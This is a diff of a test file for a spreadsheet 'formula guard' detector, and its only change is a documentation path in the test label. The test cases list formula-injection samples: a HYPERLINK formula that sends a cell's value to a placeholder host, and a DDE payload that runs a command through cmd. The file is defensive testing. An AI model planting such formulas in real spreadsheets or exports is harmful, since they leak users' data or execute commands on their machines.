@@ -1,7 +1,7 @@
 import { looksLikeFormula } from "./formula-guard";
 import { parseStatus } from "./status";
 
-describe("formula guard (reliability.md X1)", () => {
+describe("formula guard (docs/reliability.md X1)", () => {
   it.each([
     '=HYPERLINK("http://x/?"&A1)',
     "=cmd|' /C calc'!A0",
